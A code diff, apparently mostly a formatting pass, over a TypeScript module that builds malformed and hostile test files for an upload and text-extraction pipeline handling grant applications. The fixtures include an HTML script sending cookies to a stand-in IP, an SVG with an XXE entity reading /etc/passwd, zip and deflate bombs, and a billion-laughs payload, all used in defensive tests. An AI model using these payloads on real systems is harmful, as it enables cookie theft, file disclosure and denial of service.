@@ -70,7 +70,13 @@ type Bytes = Uint8Array | string;
 
 /** Strings are written as latin1: one byte per character, as PDF and MIME headers want them. */
 function concat(...parts: Bytes[]): Buffer {
-  return Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part.buffer, part.byteOffset, part.byteLength))));
+  return Buffer.concat(
+    parts.map((part) =>
+      typeof part === 'string'
+        ? Buffer.from(part, 'latin1')
+        : Buffer.from(part.buffer, part.byteOffset, part.byteLength),
+    ),
+  );
 }
 
 const utf8 = (text: string) => Buffer.from(text, 'utf8');
@@ -148,7 +154,7 @@ const ADLER_BASE = 65521;
 export function adler32(bytes: Uint8Array): number {
   let a = 1;
   let b = 0;
-  for (let i = 0; i < bytes.length; ) {
+  for (let i = 0; i < bytes.length;) {
     const end = Math.min(bytes.length, i + 5552);
     for (; i < end; i++) {
       a += bytes[i]!;
@@ -274,14 +280,34 @@ export function makeZip(entries: ZipEntry[]): Buffer {
     }
     const declared = entry.declaredSize ?? size;
     // version, flags (UTF-8 names), method, time, date 1980-01-01, crc, sizes, name length, extra length
-    const common = concat(u16(20), u16(0x0800), u16(method), u16(0), u16(0x0021), u32(crc), u32(body.length), u32(declared), u16(name.length), u16(0));
+    const common = concat(
+      u16(20),
+      u16(0x0800),
+      u16(method),
+      u16(0),
+      u16(0x0021),
+      u32(crc),
+      u32(body.length),
+      u32(declared),
+      u16(name.length),
+      u16(0),
+    );
     const local = concat(u32(0x04034b50), common, name);
     centrals.push(concat(u32(0x02014b50), u16(20), common, u16(0), u16(0), u16(0), u32(0), u32(offset), name));
     locals.push(local, body);
     offset += local.length + body.length;
   }
   const central = Buffer.concat(centrals);
-  const end = concat(u32(0x06054b50), u16(0), u16(0), u16(entries.length), u16(entries.length), u32(central.length), u32(offset), u16(0));
+  const end = concat(
+    u32(0x06054b50),
+    u16(0),
+    u16(0),
+    u16(entries.length),
+    u16(entries.length),
+    u32(central.length),
+    u32(offset),
+    u16(0),
+  );
   return Buffer.concat([...locals, central, end]);
 }
 
@@ -303,7 +329,10 @@ export function corruptCentralDirectory(zip: Uint8Array): Buffer {
 const W_NS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
 const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
 
-function contentTypes(main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml', extra = ''): string {
+function contentTypes(
+  main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
+  extra = '',
+): string {
   return (
     `${XML_DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
@@ -326,7 +355,12 @@ const DOCUMENT_CLOSE = '</w:body></w:document>';
 
 /** A minimal, valid .docx: content types, the package relationship and word/document.xml. */
 function minimalDocx(documentXml: ZipEntry, extra: ZipEntry[] = [], types = contentTypes()): Buffer {
-  return makeZip([{ name: '[Content_Types].xml', data: types }, { name: '_rels/.rels', data: PACKAGE_RELS }, documentXml, ...extra]);
+  return makeZip([
+    { name: '[Content_Types].xml', data: types },
+    { name: '_rels/.rels', data: PACKAGE_RELS },
+    documentXml,
+    ...extra,
+  ]);
 }
 
 // ---------------------------------------------------------------------------------------------------------------
@@ -365,7 +399,9 @@ export function buildPdf(objects: PdfObject[], options: PdfOptions = {}): Buffer
     push('\nendstream\nendobj\n');
   });
   const xref = offset;
-  push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`);
+  push(
+    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`,
+  );
   push(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''} >>\nstartxref\n${xref}\n%%EOF\n`);
   return Buffer.concat(chunks);
 }
@@ -384,7 +420,8 @@ export function pdfString(text: string): string {
 }
 
 /** Content operators that show lines of text in font /F1, top left, one under the other. */
-export const textOperators = (lines: string[]) => `BT /F1 14 Tf 72 760 Td 20 TL ${lines.map((line) => `${pdfString(line)} Tj T*`).join(' ')} ET`;
+export const textOperators = (lines: string[]) =>
+  `BT /F1 14 Tf 72 760 Td 20 TL ${lines.map((line) => `${pdfString(line)} Tj T*`).join(' ')} ET`;
 
 const HELVETICA = '/Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding';
 
@@ -441,7 +478,10 @@ function toUnicodeCMap(ranges: Array<[from: number, to: number, unicode: number]
 
 const PASSWORD_PAD = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
 const padPassword = (password: string) => concat(Buffer.from(password, 'latin1'), PASSWORD_PAD).subarray(0, 32);
-const md5 = (...parts: Bytes[]) => createHash('md5').update(concat(...parts)).digest();
+const md5 = (...parts: Bytes[]) =>
+  createHash('md5')
+    .update(concat(...parts))
+    .digest();
 const xorKey = (key: Uint8Array, value: number) => Buffer.from(key.map((byte) => byte ^ value));
 
 export function rc4(key: Uint8Array, data: Uint8Array): Buffer {
@@ -528,7 +568,13 @@ export function standardSecurity(handler: SecurityHandler, userPassword: string,
   const userKey = aes('aes-256-cbc', hashR6(userBytes, salt('uks'), Buffer.alloc(0)), zeroIv, fileKey, false);
   const owner = concat(hashR6(ownerBytes, salt('ovs'), user), salt('ovs'), salt('oks'));
   const ownerKey = aes('aes-256-cbc', hashR6(ownerBytes, salt('oks'), user), zeroIv, fileKey, false);
-  const perms = aes('aes-256-ecb', fileKey, null, concat(permissions, Buffer.from([0xff, 0xff, 0xff, 0xff]), 'Tadb', 'XXXX'), false);
+  const perms = aes(
+    'aes-256-ecb',
+    fileKey,
+    null,
+    concat(permissions, Buffer.from([0xff, 0xff, 0xff, 0xff]), 'Tadb', 'XXXX'),
+    false,
+  );
   return {
     header: '%PDF-2.0\n%\xe2\xe3\xcf\xd3\n',
     dictionary:
@@ -544,20 +590,29 @@ export function standardSecurity(handler: SecurityHandler, userPassword: string,
 
 /** Algorithm 2.B of ISO 32000-2: the hash behind R6 passwords. */
 function hashR6(password: Uint8Array, salt: Uint8Array, userKey: Uint8Array): Buffer {
-  let k = createHash('sha256').update(concat(password, salt, userKey)).digest();
+  let k = createHash('sha256')
+    .update(concat(password, salt, userKey))
+    .digest();
   let e: Buffer = Buffer.alloc(0);
   for (let round = 0; round < 64 || e[e.length - 1]! > round - 32; round++) {
     const k1 = Buffer.concat(Array.from({ length: 64 }, () => concat(password, k, userKey)));
     e = aes('aes-128-cbc', k.subarray(0, 16), k.subarray(16, 32), k1, false);
     let sum = 0;
     for (let i = 0; i < 16; i++) sum += e[i]!;
-    k = createHash(['sha256', 'sha384', 'sha512'][sum % 3]!).update(e).digest();
+    k = createHash(['sha256', 'sha384', 'sha512'][sum % 3]!)
+      .update(e)
+      .digest();
   }
   return k.subarray(0, 32);
 }
 
 /** A one-page PDF whose content is encrypted with the given handler and passwords. */
-export function encryptedPdf(handler: SecurityHandler, lines: string[], userPassword: string, ownerPassword: string): Buffer {
+export function encryptedPdf(
+  handler: SecurityHandler,
+  lines: string[],
+  userPassword: string,
+  ownerPassword: string,
+): Buffer {
   const security = standardSecurity(handler, userPassword, ownerPassword);
   return simplePdf({
     lines,
@@ -590,7 +645,12 @@ export function makePng(width: number, height: number, noise = false): Buffer {
     for (let x = 0; x < width; x++) row[x + 1] = random ? random[y * width + x]! : ((x + y) % 32) * 8;
     rows.push(row);
   }
-  return concat(PNG_SIGNATURE, ihdr(width, height, 8, 0), pngChunk('IDAT', zlib.deflateSync(Buffer.concat(rows))), pngChunk('IEND', Buffer.alloc(0)));
+  return concat(
+    PNG_SIGNATURE,
+    ihdr(width, height, 8, 0),
+    pngChunk('IDAT', zlib.deflateSync(Buffer.concat(rows))),
+    pngChunk('IEND', Buffer.alloc(0)),
+  );
 }
 
 /** A valid 1-bit PNG of `width`×`height` white pixels: tiny on disk, gigabytes once decoded. */
@@ -615,13 +675,22 @@ function truncatedTiff(): Buffer {
     [278, 3, 1000], // RowsPerStrip
     [279, 4, 1_000_000], // StripByteCounts
   ];
-  const ifd = concat(u16(entries.length), ...entries.map(([tag, type, value]) => concat(u16(tag), u16(type), u32(1), type === 3 ? concat(u16(value), u16(0)) : u32(value))), u32(0));
+  const ifd = concat(
+    u16(entries.length),
+    ...entries.map(([tag, type, value]) =>
+      concat(u16(tag), u16(type), u32(1), type === 3 ? concat(u16(value), u16(0)) : u32(value)),
+    ),
+    u32(0),
+  );
   const head = concat('II', u16(42), u32(8), ifd);
   // The strip should be a million bytes from offset 256; the file stops 1 000 bytes into it.
   return concat(head, Buffer.alloc(256 - head.length), seededBytes(1000, 3));
 }
 
-const GIF_1X1 = Buffer.from('47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex');
+const GIF_1X1 = Buffer.from(
+  '47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b',
+  'hex',
+);
 
 function icon(): Buffer {
   const png = makePng(16, 16);
@@ -633,7 +702,19 @@ function bitmap(): Buffer {
   const width = 4;
   const height = 4;
   const pixels = Buffer.alloc(width * height * 3, 0x80);
-  const info = concat(u32(40), u32(width), u32(height), u16(1), u16(24), u32(0), u32(pixels.length), u32(2835), u32(2835), u32(0), u32(0));
+  const info = concat(
+    u32(40),
+    u32(width),
+    u32(height),
+    u16(1),
+    u16(24),
+    u32(0),
+    u32(pixels.length),
+    u32(2835),
+    u32(2835),
+    u32(0),
+    u32(0),
+  );
   return concat('BM', u32(14 + info.length + pixels.length), u32(0), u32(14 + info.length), info, pixels);
 }
 
@@ -677,7 +758,10 @@ const NOSTREAM = 0xffffffff;
  */
 export function compoundFile(streams: Array<{ name: string; data: Uint8Array }>): Buffer {
   const sector = 512;
-  const padded = streams.map(({ name, data }) => ({ name, data: concat(data, Buffer.alloc(Math.max(0, 4096 - data.length))) }));
+  const padded = streams.map(({ name, data }) => ({
+    name,
+    data: concat(data, Buffer.alloc(Math.max(0, 4096 - data.length))),
+  }));
   const directorySectors = Math.ceil((padded.length + 1) / 4);
   const fat = new Array<number>(128).fill(FREESECT);
   fat[0] = FATSECT;
@@ -706,10 +790,21 @@ export function compoundFile(streams: Array<{ name: string; data: Uint8Array }>)
     return e;
   };
   // Siblings ordered by name length, then name (upper case): a right-leaning chain is a valid (if unbalanced) tree.
-  const order = padded.map((_, i) => i).sort((a, b) => padded[a]!.name.length - padded[b]!.name.length || padded[a]!.name.toUpperCase().localeCompare(padded[b]!.name.toUpperCase()));
+  const order = padded
+    .map((_, i) => i)
+    .sort(
+      (a, b) =>
+        padded[a]!.name.length - padded[b]!.name.length ||
+        padded[a]!.name.toUpperCase().localeCompare(padded[b]!.name.toUpperCase()),
+    );
   const rights = new Array<number>(padded.length).fill(NOSTREAM);
-  order.forEach((index, position) => (rights[index] = position + 1 < order.length ? order[position + 1]! + 1 : NOSTREAM));
-  const directory = [entry('Root Entry', 5, NOSTREAM, order.length ? order[0]! + 1 : NOSTREAM, ENDOFCHAIN, 0), ...padded.map((s, i) => entry(s.name, 2, rights[i]!, NOSTREAM, starts[i]!, streams[i]!.data.length))];
+  order.forEach(
+    (index, position) => (rights[index] = position + 1 < order.length ? order[position + 1]! + 1 : NOSTREAM),
+  );
+  const directory = [
+    entry('Root Entry', 5, NOSTREAM, order.length ? order[0]! + 1 : NOSTREAM, ENDOFCHAIN, 0),
+    ...padded.map((s, i) => entry(s.name, 2, rights[i]!, NOSTREAM, starts[i]!, streams[i]!.data.length)),
+  ];
   while (directory.length < directorySectors * 4) directory.push(entry('', 0, NOSTREAM, NOSTREAM, 0, 0));
 
   const header = Buffer.alloc(sector);
@@ -733,7 +828,8 @@ export function compoundFile(streams: Array<{ name: string; data: Uint8Array }>)
 // E-mail (RFC 5322 / MIME)
 // ---------------------------------------------------------------------------------------------------------------
 
-export type MailAttachment = { fileName: string; contentType: string; bytes: Uint8Array } | { fileName: string; message: Uint8Array };
+export type MailAttachment =
+  { fileName: string; contentType: string; bytes: Uint8Array } | { fileName: string; message: Uint8Array };
 
 export interface Mail {
   subject: string;
@@ -743,7 +839,12 @@ export interface Mail {
 }
 
 const CRLF = '\r\n';
-const base64Lines = (bytes: Uint8Array) => (Buffer.from(bytes).toString('base64').match(/.{1,76}/g) ?? []).join(CRLF);
+const base64Lines = (bytes: Uint8Array) =>
+  (
+    Buffer.from(bytes)
+      .toString('base64')
+      .match(/.{1,76}/g) ?? []
+  ).join(CRLF);
 
 function mailHeaders(subject: string, id: string): string {
   return [
@@ -758,11 +859,19 @@ function mailHeaders(subject: string, id: string): string {
 
 export function makeEmail({ subject, id, body = 'Se vedlagt søknad.\r\nHilsen Ola', attachments = [] }: Mail): Buffer {
   const boundary = `=_grant_${id}`;
-  const text = [`Content-Type: text/plain; charset=utf-8`, 'Content-Transfer-Encoding: base64', '', base64Lines(utf8(body))].join(CRLF);
+  const text = [
+    `Content-Type: text/plain; charset=utf-8`,
+    'Content-Transfer-Encoding: base64',
+    '',
+    base64Lines(utf8(body)),
+  ].join(CRLF);
   if (attachments.length === 0) return concat(mailHeaders(subject, id), CRLF, text, CRLF);
   const parts = attachments.map((attachment) =>
     'message' in attachment
-      ? concat(`Content-Type: message/rfc822${CRLF}Content-Disposition: attachment; filename="${attachment.fileName}"${CRLF}${CRLF}`, attachment.message)
+      ? concat(
+          `Content-Type: message/rfc822${CRLF}Content-Disposition: attachment; filename="${attachment.fileName}"${CRLF}${CRLF}`,
+          attachment.message,
+        )
       : concat(
           `Content-Type: ${attachment.contentType}; name="${attachment.fileName}"${CRLF}Content-Disposition: attachment; filename="${attachment.fileName}"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}`,
           base64Lines(attachment.bytes),
@@ -784,13 +893,20 @@ export function makeEmail({ subject, id, body = 'Se vedlagt søknad.\r\nHilsen O
 export function nestedEmail(depth: number, attachments: MailAttachment[]): Buffer {
   let message = makeEmail({ subject: `Niva ${depth}`, id: `nested-${depth}`, attachments });
   for (let level = depth - 1; level >= 0; level--) {
-    message = makeEmail({ subject: `Fwd: niva ${level}`, id: `nested-${level}`, attachments: [{ fileName: `videresendt-${level + 1}.eml`, message }] });
+    message = makeEmail({
+      subject: `Fwd: niva ${level}`,
+      id: `nested-${level}`,
+      attachments: [{ fileName: `videresendt-${level + 1}.eml`, message }],
+    });
   }
   return message;
 }
 
 /** One attachment inside `depth` multipart/mixed containers (not attached e-mails: a deep MIME tree). */
-function deepMultipartEmail(depth: number, attachment: { fileName: string; contentType: string; bytes: Uint8Array }): Buffer {
+function deepMultipartEmail(
+  depth: number,
+  attachment: { fileName: string; contentType: string; bytes: Uint8Array },
+): Buffer {
   const open: string[] = [];
   const close: string[] = [];
   for (let level = 0; level < depth; level++) {
@@ -798,7 +914,15 @@ function deepMultipartEmail(depth: number, attachment: { fileName: string; conte
     close.unshift(`--d${level + 1}--${CRLF}`);
   }
   const leaf = `--d${depth}${CRLF}Content-Type: ${attachment.contentType}; name="${attachment.fileName}"${CRLF}Content-Disposition: attachment; filename="${attachment.fileName}"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}${base64Lines(attachment.bytes)}${CRLF}`;
-  return concat(mailHeaders('Dyp MIME', 'deep-mime'), CRLF, `Content-Type: multipart/mixed; boundary="d0"${CRLF}${CRLF}`, ...open, leaf, ...close, `--d0--${CRLF}`);
+  return concat(
+    mailHeaders('Dyp MIME', 'deep-mime'),
+    CRLF,
+    `Content-Type: multipart/mixed; boundary="d0"${CRLF}${CRLF}`,
+    ...open,
+    leaf,
+    ...close,
+    `--d0--${CRLF}`,
+  );
 }
 
 // ---------------------------------------------------------------------------------------------------------------
@@ -806,7 +930,11 @@ function deepMultipartEmail(depth: number, attachment: { fileName: string; conte
 // ---------------------------------------------------------------------------------------------------------------
 
 /** Words on the pages of the "good" documents, to find again in extracted text. */
-export const GOOD_LINES = ['Søknadsskjema kompetanse og innovasjon', 'Søker (kommune): Vinje kommune', 'Organisasjonsnummer: 964964998'];
+export const GOOD_LINES = [
+  'Søknadsskjema kompetanse og innovasjon',
+  'Søker (kommune): Vinje kommune',
+  'Organisasjonsnummer: 964964998',
+];
 
 export const goodPdf = () => makePdf([GOOD_LINES.join('\n')]);
 
@@ -819,7 +947,8 @@ const threePagePdf = () =>
   ]);
 
 /** The first `fraction` of a file. */
-const cut = (bytes: Uint8Array, fraction: number) => Buffer.from(bytes).subarray(0, Math.floor(bytes.length * fraction));
+const cut = (bytes: Uint8Array, fraction: number) =>
+  Buffer.from(bytes).subarray(0, Math.floor(bytes.length * fraction));
 
 const mb = (n: number) => n * 1024 * 1024;
 const GiB = 1024 * 1024 * 1024;
@@ -846,9 +975,27 @@ export const hostileFiles: HostileFile[] = [
   // --- Not documents at all ------------------------------------------------------------------------------------
   { name: 'zero-bytes', fileName: 'soknad.pdf', what: 'an empty file', bytes: new Uint8Array(0), expect: unreadable },
   { name: 'one-byte', fileName: 'soknad.pdf', what: 'a single byte, x', bytes: Buffer.from('x'), expect: unsupported },
-  { name: 'random-bytes', fileName: 'soknad.pdf', what: '64 KiB of noise', bytes: () => Promise.resolve(seededBytes(65536, 42)), expect: unsupported },
-  { name: 'elf-executable-as-pdf', fileName: 'soknad.pdf', what: 'a Linux executable renamed .pdf', bytes: () => Promise.resolve(elfHeader()), expect: unsupported },
-  { name: 'pe-executable-as-pdf', fileName: 'soknad.pdf', what: 'a Windows executable renamed .pdf', bytes: () => Promise.resolve(peHeader()), expect: unsupported },
+  {
+    name: 'random-bytes',
+    fileName: 'soknad.pdf',
+    what: '64 KiB of noise',
+    bytes: () => Promise.resolve(seededBytes(65536, 42)),
+    expect: unsupported,
+  },
+  {
+    name: 'elf-executable-as-pdf',
+    fileName: 'soknad.pdf',
+    what: 'a Linux executable renamed .pdf',
+    bytes: () => Promise.resolve(elfHeader()),
+    expect: unsupported,
+  },
+  {
+    name: 'pe-executable-as-pdf',
+    fileName: 'soknad.pdf',
+    what: 'a Windows executable renamed .pdf',
+    bytes: () => Promise.resolve(peHeader()),
+    expect: unsupported,
+  },
   {
     name: 'shell-script-as-docx',
     fileName: 'soknad.docx',
@@ -860,26 +1007,51 @@ export const hostileFiles: HostileFile[] = [
     name: 'html-file',
     fileName: 'soknad.html',
     what: 'an HTML page with script',
-    bytes: utf8('<!DOCTYPE html>\n<html><head><script>fetch("http://203.0.113.7/?c="+document.cookie)</script></head><body><h1>Søknad</h1></body></html>\n'),
+    bytes: utf8(
+      '<!DOCTYPE html>\n<html><head><script>fetch("http://203.0.113.7/?c="+document.cookie)</script></head><body><h1>Søknad</h1></body></html>\n',
+    ),
     expect: unsupported,
   },
   {
     name: 'utf16-text-file',
     fileName: 'soknad.txt',
     what: 'plain text in UTF-16LE with a byte-order mark',
-    bytes: concat(Buffer.from([0xff, 0xfe]), Buffer.from('Søknad om tilskudd\r\nSøker (kommune): Vinje kommune\r\n', 'utf16le')),
+    bytes: concat(
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from('Søknad om tilskudd\r\nSøker (kommune): Vinje kommune\r\n', 'utf16le'),
+    ),
     expect: unsupported,
   },
   {
     name: 'svg-with-script',
     fileName: 'skjema.svg',
     what: 'an SVG image with script and an external entity',
-    bytes: utf8('<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>&xxe;</text></svg>\n'),
+    bytes: utf8(
+      '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>&xxe;</text></svg>\n',
+    ),
     expect: unsupported,
   },
-  { name: 'gif-image', fileName: 'skanning.gif', what: 'a 1×1 GIF (an image format without OCR here)', bytes: GIF_1X1, expect: unsupported },
-  { name: 'ico-image', fileName: 'skanning.ico', what: 'a Windows icon', bytes: () => Promise.resolve(icon()), expect: unsupported },
-  { name: 'bmp-image', fileName: 'skanning.bmp', what: 'a 4×4 BMP', bytes: () => Promise.resolve(bitmap()), expect: unsupported },
+  {
+    name: 'gif-image',
+    fileName: 'skanning.gif',
+    what: 'a 1×1 GIF (an image format without OCR here)',
+    bytes: GIF_1X1,
+    expect: unsupported,
+  },
+  {
+    name: 'ico-image',
+    fileName: 'skanning.ico',
+    what: 'a Windows icon',
+    bytes: () => Promise.resolve(icon()),
+    expect: unsupported,
+  },
+  {
+    name: 'bmp-image',
+    fileName: 'skanning.bmp',
+    what: 'a 4×4 BMP',
+    bytes: () => Promise.resolve(bitmap()),
+    expect: unsupported,
+  },
   {
     name: 'over-max-bytes',
     fileName: 'soknad.pdf',
@@ -897,9 +1069,27 @@ export const hostileFiles: HostileFile[] = [
   },
 
   // --- PDF -----------------------------------------------------------------------------------------------------
-  { name: 'pdf-truncated-50', fileName: 'soknad.pdf', what: 'a real three-page PDF cut at 50%', bytes: async () => cut(await threePagePdf(), 0.5), expect: unreadable },
-  { name: 'pdf-truncated-90', fileName: 'soknad.pdf', what: 'a real three-page PDF cut at 90%', bytes: async () => cut(await threePagePdf(), 0.9), expect: unreadable },
-  { name: 'pdf-header-only', fileName: 'soknad.pdf', what: 'only the %PDF-1.7 line', bytes: Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'), expect: unreadable },
+  {
+    name: 'pdf-truncated-50',
+    fileName: 'soknad.pdf',
+    what: 'a real three-page PDF cut at 50%',
+    bytes: async () => cut(await threePagePdf(), 0.5),
+    expect: unreadable,
+  },
+  {
+    name: 'pdf-truncated-90',
+    fileName: 'soknad.pdf',
+    what: 'a real three-page PDF cut at 90%',
+    bytes: async () => cut(await threePagePdf(), 0.9),
+    expect: unreadable,
+  },
+  {
+    name: 'pdf-header-only',
+    fileName: 'soknad.pdf',
+    what: 'only the %PDF-1.7 line',
+    bytes: Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
+    expect: unreadable,
+  },
   {
     name: 'pdf-corrupt-xref',
     fileName: 'soknad.pdf',
@@ -909,10 +1099,17 @@ export const hostileFiles: HostileFile[] = [
       const xref = pdf.lastIndexOf('xref\n0 ');
       const trailer = pdf.indexOf('trailer', xref);
       // Every offset digit becomes 9, and startxref points into the middle of the file.
-      for (let i = pdf.indexOf('\n', xref + 5) + 1; i < trailer; i++) if (pdf[i]! >= 0x30 && pdf[i]! <= 0x39) pdf[i] = 0x39;
+      for (let i = pdf.indexOf('\n', xref + 5) + 1; i < trailer; i++)
+        if (pdf[i]! >= 0x30 && pdf[i]! <= 0x39) pdf[i] = 0x39;
       const start = pdf.lastIndexOf('startxref\n') + 'startxref\n'.length;
       const digits = pdf.indexOf('\n', start) - start;
-      pdf.write(String(Math.floor(pdf.length / 2)).padStart(digits, '0').slice(-digits), start, 'latin1');
+      pdf.write(
+        String(Math.floor(pdf.length / 2))
+          .padStart(digits, '0')
+          .slice(-digits),
+        start,
+        'latin1',
+      );
       return pdf;
     },
     expect: { text: { contains: GOOD_LINES } },
@@ -1029,7 +1226,12 @@ export const hostileFiles: HostileFile[] = [
     name: 'pdf-control-characters-in-text',
     fileName: 'soknad.pdf',
     what: 'a text line of raw control bytes (NUL, BEL, BS, ESC[31m, DEL) between two readable lines',
-    bytes: () => Promise.resolve(simplePdf({ lines: ['Kontrolltegn kommer her:', '\0\x01\x02\x07\x08\x1b[31m\x7f\0\0', 'og her er teksten igjen'] })),
+    bytes: () =>
+      Promise.resolve(
+        simplePdf({
+          lines: ['Kontrolltegn kommer her:', '\0\x01\x02\x07\x08\x1b[31m\x7f\0\0', 'og her er teksten igjen'],
+        }),
+      ),
     expect: { text: { contains: ['Kontrolltegn kommer her:', 'og her er teksten igjen'] } },
   },
   {
@@ -1041,7 +1243,14 @@ export const hostileFiles: HostileFile[] = [
         simplePdf({
           lines: ['Soknad om tilskudd', 'Vinje kommune'],
           font: '/ToUnicode 6 0 R',
-          extra: [{ dict: '', stream: toUnicodeCMap([0x20, 0x40, 0x60, 0x80, 0xa0, 0xc0, 0xe0].map((from) => [from, from + 0x1f, 0x0000])) }],
+          extra: [
+            {
+              dict: '',
+              stream: toUnicodeCMap(
+                [0x20, 0x40, 0x60, 0x80, 0xa0, 0xc0, 0xe0].map((from) => [from, from + 0x1f, 0x0000]),
+              ),
+            },
+          ],
         }),
       ),
     expect: { text: { ocrContains: ['Soknad om tilskudd', 'Vinje kommune'] } },
@@ -1055,7 +1264,15 @@ export const hostileFiles: HostileFile[] = [
         simplePdf({
           lines: ['Soknad om tilskudd', 'Vinje kommune'],
           font: '/ToUnicode 6 0 R',
-          extra: [{ dict: '', stream: toUnicodeCMap([[0x20, 0x7f, 0xe000], [0x80, 0xff, 0x4e00]]) }],
+          extra: [
+            {
+              dict: '',
+              stream: toUnicodeCMap([
+                [0x20, 0x7f, 0xe000],
+                [0x80, 0xff, 0x4e00],
+              ]),
+            },
+          ],
         }),
       ),
     expect: { text: { ocrContains: ['Soknad om tilskudd', 'Vinje kommune'] } },
@@ -1089,7 +1306,10 @@ export const hostileFiles: HostileFile[] = [
     fileName: 'soknad.pdf',
     what: 'a 2.5 MB content stream (FlateDecode) that inflates to 2.5 GiB of spaces before its text',
     bytes: () => {
-      const content = zlibRuns([{ repeat: ' ', times: 2.5 * GiB }, Buffer.from(textOperators(['Etter bomben']), 'latin1')]);
+      const content = zlibRuns([
+        { repeat: ' ', times: 2.5 * GiB },
+        Buffer.from(textOperators(['Etter bomben']), 'latin1'),
+      ]);
       return Promise.resolve(
         buildPdf([
           '<< /Type /Catalog /Pages 2 0 R >>',
@@ -1117,7 +1337,11 @@ export const hostileFiles: HostileFile[] = [
       Promise.resolve(
         minimalDocx({
           name: 'word/document.xml',
-          deflated: deflateRuns([utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`), { repeat: 'a', times: 3 * GiB }, utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`)]),
+          deflated: deflateRuns([
+            utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`),
+            { repeat: 'a', times: 3 * GiB },
+            utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`),
+          ]),
         }),
       ),
     expect: { code: 'too-large' },
@@ -1130,7 +1354,11 @@ export const hostileFiles: HostileFile[] = [
       Promise.resolve(
         minimalDocx({
           name: 'word/document.xml',
-          deflated: deflateRuns([utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`), { repeat: 'a', times: 3 * GiB }, utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`)]),
+          deflated: deflateRuns([
+            utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`),
+            { repeat: 'a', times: 3 * GiB },
+            utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`),
+          ]),
           declaredSize: 1024,
         }),
       ),
@@ -1147,7 +1375,11 @@ export const hostileFiles: HostileFile[] = [
       Promise.resolve(
         minimalDocx({
           name: 'word/document.xml',
-          deflated: deflateRuns([utf8(DOCUMENT_OPEN), { repeat: paragraph('Søknad om tilskudd til opplæring i Vinje kommune. '), times: 2_080_000 }, utf8(DOCUMENT_CLOSE)]),
+          deflated: deflateRuns([
+            utf8(DOCUMENT_OPEN),
+            { repeat: paragraph('Søknad om tilskudd til opplæring i Vinje kommune. '), times: 2_080_000 },
+            utf8(DOCUMENT_CLOSE),
+          ]),
         }),
       ),
     expect: { code: 'too-large' },
@@ -1156,7 +1388,14 @@ export const hostileFiles: HostileFile[] = [
     name: 'docx-declared-200mb',
     fileName: 'soknad.docx',
     what: 'a small document.xml whose zip headers declare 200 MiB + 1 byte',
-    bytes: () => Promise.resolve(minimalDocx({ name: 'word/document.xml', data: `${DOCUMENT_OPEN}${paragraph('Liten søknad')}${DOCUMENT_CLOSE}`, declaredSize: mb(200) + 1 })),
+    bytes: () =>
+      Promise.resolve(
+        minimalDocx({
+          name: 'word/document.xml',
+          data: `${DOCUMENT_OPEN}${paragraph('Liten søknad')}${DOCUMENT_CLOSE}`,
+          declaredSize: mb(200) + 1,
+        }),
+      ),
     expect: {
       anyOf: [{ code: 'too-large' }, { code: 'unreadable' }],
       why: 'the declared size is over the limit (too-large, refused before inflating), and it is also false (unreadable, if sizes are checked first)',
@@ -1173,7 +1412,13 @@ export const hostileFiles: HostileFile[] = [
     name: 'zip-not-docx',
     fileName: 'soknad.docx',
     what: 'a zip of a readme and a CSV, renamed .docx',
-    bytes: () => Promise.resolve(makeZip([{ name: 'README.txt', data: 'Budsjett vedlagt.\n' }, { name: 'budsjett.csv', data: 'post;belop\nlonn;1250000\n' }])),
+    bytes: () =>
+      Promise.resolve(
+        makeZip([
+          { name: 'README.txt', data: 'Budsjett vedlagt.\n' },
+          { name: 'budsjett.csv', data: 'post;belop\nlonn;1250000\n' },
+        ]),
+      ),
     expect: unsupported,
   },
   {
@@ -1195,7 +1440,10 @@ export const hostileFiles: HostileFile[] = [
     fileName: 'soknad.docx',
     what: 'document.xml with a DOCTYPE of ten nested entities (10^9 "lol"s if expanded)',
     bytes: () => {
-      const entities = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)];
+      const entities = [
+        '<!ENTITY lol "lol">',
+        ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
+      ];
